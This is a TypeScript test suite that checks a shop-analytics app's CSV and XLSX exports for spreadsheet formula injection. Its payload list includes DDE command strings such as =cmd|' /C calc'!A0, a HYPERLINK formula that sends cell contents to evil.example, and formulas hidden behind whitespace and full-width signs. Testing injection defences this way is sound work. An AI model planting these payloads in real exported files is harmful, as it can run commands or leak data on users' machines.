import { setTimeout as wait } from 'node:timers/promises'
import fc from 'fast-check'
import { readXlsx } from 'hucre/xlsx'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { partsOf } from '../../src/documents/testing.ts'
import { putRows, putSales } from '../../src/facts/testing.ts'
import { day } from '../../src/kernel/calendar.ts'
import { neutralised } from '../../src/kernel/spreadsheet-text.ts'
import { machineHeaders } from '../machine.ts'
import { type Ground, openGround } from './ground.ts'

/** What spreadsheets run, by itself, behind what they leave out, in wide signs, and behind a separator. */
const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"点我")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '无害;=1+1',
  '无害\t=1+1',
  '无害\r\n=1+1',
  '"无害",=1+1',
]

/** The cells that a reader of CSV gets which splits at any of the usual separators. */
const cellsOf = (text: string): string[] => {
  const cells: string[] = []
  let cell = ''
  let isQuoted = false
  for (let at = 0; at < text.length; at++) {
    const sign = text[at] ?? ''
    if (isQuoted) {
      if (sign === '"' && text[at + 1] === '"') {
        cell += '"'
        at++
      } else if (sign === '"') isQuoted = false
      else cell += sign
    } else if (sign === '"' && cell === '') isQuoted = true
    else if (/[,;\t\r\n]/.test(sign)) {
      cells.push(cell)
      cell = ''
    } else cell += sign
  }
  return [...cells, cell]
}

/** Whether a spreadsheet would run it, as its makers' guides tell; a plain number runs nothing. */
const runs = (cell: string): boolean =>
  /^[\s\p{Cc}\u200b]*[=+\-@＝＋－＠]/u.test(cell) && !/^-?\d+(\.\d+)?%?$/.test(cell)

const dangerous = (text: string): string[] => cellsOf(text.replace(/^\ufeff/, '')).filter(runs)

/** Of every sheet: cells that a spreadsheet would run, and formulas that are ones. */
const dangerousIn = async (bytes: Uint8Array): Promise<string[]> => {
  const { sheets } = await readXlsx(bytes)
  const cells = sheets.flatMap(({ rows }) => rows.flat()).filter((cell) => typeof cell === 'string')
  expect(cells.length).toBeGreaterThan(0)
  const parts = [...(await partsOf(bytes))].filter(([name]) => name.startsWith('xl/worksheets/'))
  return [...cells.filter(runs), ...parts.flatMap(([, text]) => text.match(/<f[ >].*?<\/f>/g) ?? [])]
}

const at = '2026-11-10'
const shop = '=cmd|店'

let ground: Ground
beforeAll(async () => {
  ground = await openGround('embedded', { isPublic: false })
  const { client, facts } = ground.house
  const { id } = await client.facts.createShop({ name: shop })
  await putSales(
    facts,
    id,
    formulas.map((title, n) => ({
      order: `3520261110${String(n).padStart(9, '0')}`,
      at: `${at} 10:00:00`,
      item: `6000000000${String(n).padStart(2, '0')}`,
      title,
      paid: 100 + n,
      buyer: `b${n}`,
    })),
    { from: day(at), to: day(at) },
  )
  await putRows(
    facts,
    id,
    'listing',
    formulas.map((title, n) => ({
      snapshot_day: day(at),
      item_id: `6000000000${String(n).padStart(2, '0')}`,
      sku_id: '',
      title,
      price_fen: 4_000,
      stock: 1,
    })),
  )
}, 120_000)
afterAll(() => ground.close())

/** What a file brings that is asked for as the page asks for it. */
const fetched = async (path: string, input?: object): Promise<Uint8Array> => {
  const answer = await fetch(`${ground.server.address}${path}`, {
    method: input ? 'POST' : 'GET',
    headers: { ...machineHeaders(ground.house.folder.path), 'content-type': 'application/json' },
    ...(input ? { body: JSON.stringify(input) } : {}),
  })
  const bytes = new Uint8Array(await answer.arrayBuffer())
  if (!answer.ok) throw new Error(`${path}: ${answer.status} ${new TextDecoder().decode(bytes)}`)
  return bytes
}
const textOf = (bytes: Uint8Array): string => new TextDecoder().decode(bytes)

test('the reader of these tests sees what would run', () => {
  for (const text of formulas) {
    const cell = `"${text.replaceAll('"', '""')}"`
    expect([...dangerous(text), ...dangerous(cell)], JSON.stringify(text)).not.toEqual([])
  }
})

describe('a text that would run is text', () => {
  test.each(formulas)('%j, by itself', (text) => {
    const cell = neutralised(text)
    expect(runs(cell)).toBe(false)
    expect(cell.replace(/^'/, '')).toBe(text)
  })

  test('whatever stands before and behind it', () => {
    const before = fc.constantFrom(
      '',
      ' ',
      '\t',
      '\r',
      '\n',
      '\u00a0',
      '\u200b',
      '\ufeff',
      '\u0000',
      '\u3000',
    )
    fc.assert(
      fc.property(fc.array(before), fc.constantFrom(...'=+-@＝＋－＠'), fc.string(), (start, sign, rest) => {
        expect(neutralised(start.join('') + sign + rest).startsWith("'")).toBe(true)
      }),
    )
  })
})

describe('in every file that leaves', () => {
  const figures = { shop, metrics: ['paid_amount'], by: ['item'], from: at, to: at }

  test('figures as CSV and XLSX', async () => {
    const text = textOf(await fetched('/api/figures/export?format=csv', figures))
    expect(text).toContain('HYPERLINK')
    expect(dangerous(text)).toEqual([])
    expect(await dangerousIn(await fetched('/api/figures/export?format=xlsx', figures))).toEqual([])
  })

  test('a table of a page, with its headers', async () => {
    const table = {
      name: '表',
      columns: [
        { name: '=1+1', unit: 'text' },
        { name: '@x', unit: 'money' },
        { name: '日', unit: 'day' },
      ],
      rows: formulas.map((text) => [text, text, text]),
    }
    expect(await dangerousIn(await fetched('/api/tables/export', table))).toEqual([])
  })

  test('a page as a workbook, but for the sums that it is made with', async () => {
    const sheet = {
      name: '=表',
      columns: [
        { name: '=1+1', unit: 'text' },
        { name: '@x', unit: 'day' },
      ],
      rows: formulas.map((text) => [text, text]),
      total: '=合计',
    }
    const book = { name: '=一页', sheets: [sheet] }
    expect(await dangerousIn(await fetched('/api/books/export', book))).toEqual([])
  })

  test('what to order, for the supplier', async () => {
    await ground.house.client.team.saveSupplies({
      shop,
      rows: [
        {
          row: 2,
          item: '600000000000',
          sku: '',
          supplier: '=1+1;=2',
          leadDays: '3',
          moq: '1',
          pack: '1',
          safety: '',
        },
      ],
    })
    const path = `/api/team/stock/proposal?shop=${encodeURIComponent(shop)}&format=`
    const text = textOf(await fetched(`${path}csv`))
    expect(text).toContain('HYPERLINK')
    expect(dangerous(text)).toEqual([])
    expect(await dangerousIn(await fetched(`${path}xlsx`))).toEqual([])
  })

  test('rows that were refused, with the lines of the file they stood in', async () => {
    const lines = formulas.map(
      (text, n) =>
        `35${String(n).padStart(17, '0')},不是金额,"${text.replaceAll('"', '""')}",2026-11-16 09:12:00`,
    )
    const body = ['订单编号,买家实际支付金额,宝贝标题,订单创建时间', ...lines].join('\n')
    const query = new URLSearchParams({ name: '=cmd.csv', shop, preview: 'false' })
    const answer = await fetch(`${ground.server.address}/api/uploads?${query}`, {
      method: 'PUT',
      headers: machineHeaders(ground.house.folder.path),
      body,
    })
    expect(answer.status).toBe(200)
    const { id } = Object(await answer.json())
    const settled = async (...states: string[]) => {
      for (;;) {
        const found = (await ground.house.client.importing.uploads({ shop })).find((one) => one.id === id)
        if (found && states.includes(found.state)) return found
        await wait(30)
      }
    }
    expect((await settled('ready', 'failed', 'waiting')).state).toBe('ready')
    await ground.house.client.importing.commit({ uploads: [id] })
    const done = await settled('done', 'failed')
    const batch = done.sheets[0]?.result?.batch ?? 0
    const text = textOf(await fetched(`/api/batches/${batch}/rejects.csv?shop=${encodeURIComponent(shop)}`))
    expect(text).toContain('1+1')
    expect(dangerous(text)).toEqual([])
  })

  test('a report as a workbook', async () => {
    const { client } = ground.house
    const { id: member } = await client.people.addMember({ name: '=林晓' })
    const { id } = await client.reports.make({
      shop,
      kind: 'weekly',
      from: '2026-11-09',
      to: '2026-11-15',
      member,
    })
    const made = await client.reports.open({ shop, id })
    const free = made.places.find(({ isLocked }) => !isLocked)
    await client.reports.word({ shop, id, place: free?.place ?? '', words: '=1+1 这周', member })
    const [file] = await client.reports.files({ shop, id, formats: ['xlsx'] })
    if (!file) throw new Error('a file was asked for')
    expect(await dangerousIn(new Uint8Array(await file.arrayBuffer()))).toEqual([])
  })
})
